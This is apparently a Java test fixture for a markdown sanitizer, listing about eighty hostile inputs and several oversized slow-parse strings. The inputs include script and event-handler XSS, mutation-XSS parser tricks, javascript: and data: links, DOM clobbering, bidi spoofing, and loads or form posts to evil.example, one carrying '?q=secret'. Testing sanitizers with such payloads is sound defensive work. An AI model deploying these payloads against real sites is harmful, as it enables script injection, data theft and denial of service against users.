package dev.verbatim.browser;

import java.util.List;

/**
 * Words that attack a page, of the kinds that the published collections know: script in tags, attributes and addresses, markup that a second
 * parse reads differently, styles and forms that call home, and markdown that is turned into any of these. Each that runs sets
 * {@code window.ran}; each that loads names {@code evil.example}.
 */
final class HostileMarkdown {
    /** Every case ends with a word of its own, so that a reader can tell that nothing was swallowed. */
    static final List<String> CASES = List.of(
            // Tags that run
            "<script>window.ran=1</script> alpha-1",
            "<ScRiPt src=//evil.example/x.js></sCrIpT> alpha-2",
            "<script/src=\"https://evil.example/x.js\"> alpha-3",
            "<<script>window.ran=4//<</script> alpha-4",
            "<script\n>window.ran=5</script\n> alpha-5",
            "<img src=x onerror=window.ran=6> alpha-6",
            "<img src=\"x\" onerror=\"&#119;indow.ran=7\"> alpha-7",
            "<IMG \"\"\"><SCRIPT>window.ran=8</SCRIPT>\"> alpha-8",
            "<img src=`x`onerror=window.ran=9> alpha-9",
            "<img\tsrc\n=\nx\nonerror\n=\nwindow.ran=10> alpha-10",
            "<svg/onload=window.ran=11> <svg><script>window.ran=11</script></svg> alpha-11",
            "<svg><animate onbegin=window.ran=12 attributeName=x dur=1s></svg> alpha-12",
            "<svg><a xlink:href=\"javascript:window.ran=13\"><text y=20>x</text></a></svg> alpha-13",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload=window.ran=14 />#x\"></svg> alpha-14",
            "<body onload=window.ran=15><body onpageshow=window.ran=15> alpha-15",
            "<details open ontoggle=window.ran=16><summary>x</summary></details> alpha-16",
            "<input autofocus onfocus=window.ran=17><select autofocus onfocus=window.ran=17></select> alpha-17",
            "<video><source onerror=window.ran=18></video><audio src onerror=window.ran=18></audio> alpha-18",
            "<marquee onstart=window.ran=19>x</marquee><div onanimationstart=window.ran=19 style=animation:breathe>x</div> alpha-19",
            "<b onmouseover=window.ran=20 onclick=window.ran=20 tabindex=0 onfocus=window.ran=20 autofocus>x</b> alpha-20",
            // Frames, documents, everything that loads
            "<iframe srcdoc=\"<script>parent.ran=21</script>\"></iframe><iframe src=javascript:parent.ran=21></iframe> beta-21",
            "<object data=https://evil.example/o></object><embed src=https://evil.example/e> beta-22",
            "<link rel=stylesheet href=https://evil.example/z.css><link rel=prefetch href=https://evil.example/p> beta-23",
            "<base href=https://evil.example/><a href=/x>x</a> beta-24",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"> beta-25",
            "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style> beta-26",
            "<div style=\"background:url(https://evil.example/bg);position:fixed;inset:0\">x</div> beta-27",
            "<table background=https://evil.example/t><td background=https://evil.example/t>x</table> beta-28",
            "<form action=https://evil.example/><input name=q><button formaction=https://evil.example/>Press</button></form> beta-29",
            "<img srcset=\"https://evil.example/1x 1x\"><picture><source srcset=https://evil.example/p></picture> beta-30",
            "<a ping=https://evil.example/ping href=https://example.org/>x</a> beta-31",
            "<template><img src=https://evil.example/tpl></template><portal src=https://evil.example/></portal> beta-32",
            // What a second parse reads differently
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran=33&gt;\"> gamma-33",
            "<svg></p><style><a id=\"</style><img src=1 onerror=window.ran=34>\"> gamma-34",
            "<noscript><p title=\"</noscript><img src=x onerror=window.ran=35>\"> gamma-35",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=36> gamma-36",
            "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror=window.ran=37>\"> gamma-37",
            "<textarea></textarea><img src=x onerror=window.ran=38></textarea><xmp><img src=x onerror=window.ran=38></xmp> gamma-38",
            "<!--[if gte IE 4]><script>window.ran=39</script><![endif]--><!--><img src=x onerror=window.ran=39>--> gamma-39",
            "<![CDATA[<img src=x onerror=window.ran=40>]]><?xml <img src=x onerror=window.ran=40>?> gamma-40",
            "<select><template><style><!--</style></template><a rel=\"--></style></template></select><img src onerror=window.ran=41>\"> gamma-41",
            "<svg><desc><title><style><img src=x onerror=window.ran=42></style></title></desc></svg> gamma-42",
            "<form id=attributes><input name=attributes><input name=nodeName><input name=parentNode></form><img name=getElementById> gamma-43",
            "<a id=verbatim href=clobber:x></a><img id=app name=createElement><form id=document name=body></form> gamma-44",
            // Addresses
            "[x](javascript:window.ran=45) [x](java\tscript:window.ran=45) [x](&#106;avascript:window.ran=45) delta-45",
            "[x](JaVaScRiPt:window.ran=46) [x](<javascript:window.ran=46>) [x]( javascript:window.ran=46 ) delta-46",
            "[x](\u0001javascript:window.ran=47) [x](javascript&colon;window.ran=47) [x](javascript&#0058;window.ran=47) delta-47",
            "[x](data:text/html,<script>window.ran=48</script>) [x](data:text/html;base64,PHNjcmlwdD4=) <javascript:window.ran=48> delta-48",
            "[x](vbscript:window.ran=49) [x](blob:https://evil.example/1) [x](file:///etc/passwd) [x](//evil.example/x) delta-49",
            "[x][51] ![x][51] [51]: javascript:window.ran=51\n\n[51]: javascript:window.ran=51 'x\" onclick=\"window.ran=51'\n\ndelta-51",
            "[x](https://example.org/\"onmouseover=\"window.ran=52) [x](https://example.org/ 'a\"onclick=\"window.ran=52') delta-52",
            "![x](https://evil.example/?q=secret) ![x](//evil.example/x.png \"t\") ![x](data:image/svg+xml,<svg/onload=window.ran=53>) delta-53",
            "![x](x\"onerror=\"window.ran=54) ![\"onerror=\"window.ran=54](https://evil.example/i) delta-54",
            "<https://example.org/?<script>window.ran=55</script>> https://example.org/<img/src=x/onerror=window.ran=55> delta-55",
            "[<img src=x onerror=window.ran=56>](https://example.org/) [![x](https://evil.example/n)](https://example.org/) delta-56",
            // Code, tables, lists, headings
            "```html\n<script>window.ran=57</script>\n```\n\nepsilon-57",
            "```\"><img/src=x/onerror=window.ran=58>\nx\n```\n\nepsilon-58",
            "```js onload=window.ran=59 class=\"x\n`${window.ran=59}`\n```\n\nepsilon-59",
            "    <script>window.ran=60</script>\n\n`<img src=x onerror=window.ran=60>` ``<b onclick=window.ran=60>`` epsilon-60",
            "| a | b |\n| --- | --- |\n| <img src=x onerror=window.ran=61> | `<b onclick=window.ran=61>` |\n\nepsilon-61",
            "# <img src=x onerror=window.ran=62> {#id onclick=window.ran=62}\n\nepsilon-62",
            "- [ ] <img src=x onerror=window.ran=63>\n- [x] <script>window.ran=63</script>\n\nepsilon-63",
            "> <svg onload=window.ran=64>\n> > <iframe src=https://evil.example/q>\n\nepsilon-64",
            "1. <a href=javascript:window.ran=65>x</a>\n2. **<img src=x onerror=window.ran=65>**\n\nepsilon-65",
            "~~<img src=x onerror=window.ran=66>~~ *<svg onload=window.ran=66>* epsilon-66",
            "{{constructor.constructor('window.ran=67')()}} ${window.ran=67} <%= window.ran=67 %> epsilon-67",
            "\u202Egnihtyreve\u202C \u2066x\u2069 \u0000 \uFEFF&#0; &#xD800; epsilon-68",
            "<img src=x onerror=window.ran=69".repeat(3) + " epsilon-69",
            // What a second look turns into something else
            "[a [b](javascript:window.ran=70) c](https://example.org/) [![x](javascript:window.ran=70)](javascript:window.ran=70) zeta-70",
            "www.evil.example/<script>window.ran=71</script> http://evil.example/\"onclick=\"window.ran=71 ftp://evil.example/x zeta-71",
            "&lt;script&gt;window.ran=72&lt;/script&gt; &#x3c;img src=x onerror=window.ran=72&#x3e;&NewLine;&Tab; zeta-72",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran=73&gt;\"> zeta-73",
            "[x](https:javascript:window.ran=74) [x](http:\\\\evil.example) [x](https://example.org&#47;&#x22;onclick=window.ran=74) zeta-74",
            "[safe\u202Eelpmaxe.live](https://evil.example/) `a\u202Eb\u2066c` zeta-75",
            "```" + "a".repeat(300) + "\nx\n```\n\nzeta-76",
            "[a][__proto__] [b][constructor] [c][toString]\n\n[__proto__]: javascript:window.ran=77\n\nzeta-77",
            "- ☑ <img src=x onerror=window.ran=78>\n- [x] [y](javascript:window.ran=78)\n\nzeta-78",
            ">".repeat(60) + " <img src=x onerror=window.ran=79>\n\nzeta-79",
            "*a".repeat(700) + "<img src=x onerror=window.ran=80> [x](javascript:window.ran=80)\n\nzeta-80");

    /** Words that are slow to read as markdown, each thirty thousand characters of it. */
    static final List<String> GIANTS = List.of(
            ">".repeat(30_000),
            "- ".repeat(15_000),
            "*a ".repeat(10_000),
            "a**".repeat(10_000),
            "![".repeat(15_000),
            "a".repeat(30_000) + "@",
            "- a\n" + "b\n".repeat(15_000),
            "|a".repeat(1_000) + "|\n" + "|-".repeat(1_000) + "|\n" + "|\n".repeat(13_000));

    private HostileMarkdown() {}
}
